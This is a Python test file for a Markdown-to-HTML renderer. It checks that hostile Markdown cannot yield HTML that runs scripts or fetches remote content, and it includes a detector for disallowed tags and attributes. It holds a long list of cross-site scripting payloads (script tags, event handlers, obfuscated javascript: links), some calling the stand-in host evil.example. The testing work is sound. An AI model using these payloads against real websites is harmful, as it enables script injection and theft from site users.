"""What strangers may write: nothing that runs, whichever way Markdown is bent."""

import re

import pytest
from hypothesis import given, settings, strategies as st
from selectolax.lexbor import LexborHTMLParser

from variorum.model.safe_html import SCHEMES, TAGS
from variorum.render.dialect import Dialect

SITE = Dialect(
    (
        *("abbr", "admonition", "attr_list", "def_list", "footnotes", "md_in_html", "tables", "toc"),
        *("pymdownx.details", "pymdownx.superfences"),
    )
)
HOSTILE = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='vbscript:x' onclick='x'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](x){onerror=alert(1)}",
    "words{onclick=alert(1)}",
    "# Heading {onmouseover=alert(1) #x}",
    "[x](y){style=position:fixed href=javascript:alert(1)}",
    '!!! note "<img src=x onerror=alert(1)>"\n    text',
    '??? note "<script>alert(1)</script>"\n    text',
    "~~~ {.html onclick=alert(1)}\n<script>\n~~~",
    "<div markdown='1' onclick='x'>*x* <script>alert(1)</script></div>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1)></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<iframe src=//evil.example></iframe><object data=x></object><embed src=x>",
    "<form action=//evil.example><input name=x><button formaction=javascript:x>x</button></form>",
    "<base href=//evil.example><meta http-equiv=refresh content=0><link rel=stylesheet href=//evil.example>",
    "<details open ontoggle=alert(1)>x</details>",
    "<div><p><b><script>alert(1)",
    "</div></article><script>alert(1)</script>",
    "<!-- --><script>alert(1)</script><!--",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "*[<script>alert(1)</script>]: <script>alert(1)</script>\n\n<script>alert(1)</script>",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "| <script>x</script> |\n| --- |\n| <img src=x onerror=x> |",
)


def find_harm(html: str) -> list[str]:
    """Give what may run or fetch in HTML, as a browser would parse it."""
    found = []
    for node in LexborHTMLParser(html).css("body *"):
        if node.tag not in TAGS:
            found.append(f"<{node.tag}>")
        for name, value in node.attributes.items():
            target = re.sub(
                r"^[\x00-\x20]+|[\t\r\n]", "", value or ""
            ).casefold()  # as browsers read addresses
            if name.startswith("on") or name in {"srcdoc", "action", "formaction"}:
                found.append(f"{name}={value}")
            scheme = re.match(r"([a-z][a-z0-9+.-]*):", target)  # with a space in it, it is none
            if name in {"href", "src", "cite"} and scheme and scheme[1] not in SCHEMES:
                found.append(f"{name}={value}")
            if name == "style" and re.sub(r"text-align:\s*(left|right|center);?", "", target):
                found.append(f"style={value}")
    return found


@pytest.mark.parametrize("dialect", [Dialect(), SITE], ids=["plain", "site"])
@pytest.mark.parametrize("markdown", HOSTILE)
def test_nothing_that_runs_survives(markdown: str, dialect: Dialect) -> None:
    assert find_harm(dialect.convert(markdown).html) == []
    assert find_harm(dialect.convert(f"Before {markdown} after").html) == []
    assert find_harm(dialect.convert_inline(markdown)) == []


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from([*HOSTILE, "\n\n", "    ", "> ", "- ", "`", "<", "</", "'", '"', "[", "]("])))
def test_nothing_that_runs_survives_in_any_mixture(pieces: list[str]) -> None:
    assert find_harm(SITE.convert("".join(pieces)).html) == []


@pytest.mark.parametrize(
    ("markdown", "html"),
    {
        "Plain words": "Plain words",
        "a < b & c": "a &lt; b &amp; c",
        "*a* `b`": "<em>a</em> <code>b</code>",
        "[x](https://example.org)": '<a href="https://example.org">x</a>',
    }.items(),
)
def test_a_phrase_comes_without_a_paragraph(markdown: str, html: str) -> None:
    assert Dialect().convert_inline(markdown) == html


def test_what_is_harmless_stays() -> None:
    markdown = "## Бои\n\n| a | b |\n| --- | --: |\n| 1 | 2 |\n\n<span lang='ja'>張</span>"
    html = Dialect().convert(markdown).html
    page = LexborHTMLParser(html)
    assert [node.attributes["id"] for node in page.css("h2")] == ["бои"]
    assert [node.attributes.get("style") for node in page.css("td")] == [None, "text-align:right"]
    assert [node.attributes["lang"] for node in page.css("span")] == ["ja"]


def test_an_editors_own_footnotes_are_not_taken_for_notes() -> None:
    html = SITE.convert("x[^1]\n\n[^1]: y").html
    assert 'id="fn-1"' in html
    assert "fn:1" not in html
